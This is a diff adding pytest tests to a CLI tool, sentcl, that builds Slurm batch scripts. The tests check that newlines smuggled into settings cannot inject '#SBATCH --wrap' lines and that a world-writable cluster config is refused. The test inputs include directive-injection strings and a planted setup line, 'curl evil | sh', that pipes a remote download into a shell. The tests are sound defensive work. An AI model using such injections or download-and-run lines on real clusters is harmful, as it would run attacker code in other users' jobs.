@@ -221,3 +221,50 @@ def test_the_slurm_path_on_a_stand_in_slurm(tmp_path):
     assert "2 still queued or running, 1 to submit" in r.stdout, r.stdout
     assert "submitted liao-table2 as job 102" in r.stdout, r.stdout
     assert not (fake/"sbatch-103.sh").exists()
+
+
+def _dry_run(capsys, out, *extra):
+    "`sentcl experiments run liao-table2 --launcher slurm --dry-run`: (exit status, stdout, stderr)."
+    from sentcl.cli import main
+    capsys.readouterr()
+    code = main(["experiments", "run", "liao-table2", "--preset", "cpu-smoke", "--launcher", "slurm", "--dry-run",
+                 "--out", str(out), *map(str, extra)])
+    said = capsys.readouterr()
+    return code, said.out, said.err
+
+
+@pytest.mark.parametrize("where", ["flag", "variable", "file value", "file key", "folder"])
+def test_a_slurm_setting_never_becomes_a_line_of_the_script(tmp_path, capsys, monkeypatch, where):
+    "A newline in any setting is refused with one line naming the setting; nothing reaches an sbatch file."
+    evil, out, extra = "gpu\n#SBATCH --wrap=touch-pwned", tmp_path/"runs"/"batch", []
+    out.parent.mkdir()
+    if where == "flag": extra = ["--partition", evil]
+    if where == "variable": monkeypatch.setenv("SENTCL_SLURM_QOS", evil)
+    if where == "file value": (out.parent/"sentcl-slurm.toml").write_text('[additional]\nconstraint = "a\\nb"\n')
+    if where == "file key": (out.parent/"sentcl-slurm.toml").write_text('[additional]\n"x\\n#SBATCH --wrap=id" = "1"\n')
+    if where == "folder": out = tmp_path/"runs"/"a\nb"
+    code, printed, err = _dry_run(capsys, out, *extra)
+    assert code == 2 and "#SBATCH --wrap" not in printed, printed
+    named = {"flag": "--partition:", "variable": "SENTCL_SLURM_QOS:", "file value": "additional.constraint:",
+             "file key": "additional: a key:", "folder": "--out:"}[where]
+    assert named in err and "holds the control character" in err and len(err.strip().splitlines()) == 1, err
+
+
+@pytest.mark.skipif(not hasattr(os, "getuid"), reason="POSIX owners")
+def test_a_cluster_file_others_can_change_is_not_obeyed(tmp_path, capsys):
+    "A sentcl-slurm.toml others can write is refused (its setup lines would run in every job); --cluster-file names one."
+    out = tmp_path/"runs"/"batch"; out.parent.mkdir()
+    planted = out.parent/"sentcl-slurm.toml"
+    planted.write_text('setup = ["curl evil | sh"]\n'); planted.chmod(0o666)
+    code, printed, err = _dry_run(capsys, out)
+    assert code == 2 and "curl evil" not in printed
+    assert f"{planted}: writable by others than you" in err and "chmod go-w" in err, err
+    mine = tmp_path/"lab.toml"
+    mine.write_text('partition = "gpu"\nsetup = ["module load cuda/12.1"]\n'); mine.chmod(0o644)
+    code, printed, err = _dry_run(capsys, out, "--cluster-file", mine)
+    assert code == 0, err
+    head = printed.splitlines()[:3]
+    assert head == [f"# cluster settings from {mine}",
+                    "# its setup lines, run as shell before every job (they are in the sbatch files below too):",
+                    "#   module load cuda/12.1"], printed
+    assert "#SBATCH --partition=gpu" in printed and "\nmodule load cuda/12.1\n" in printed
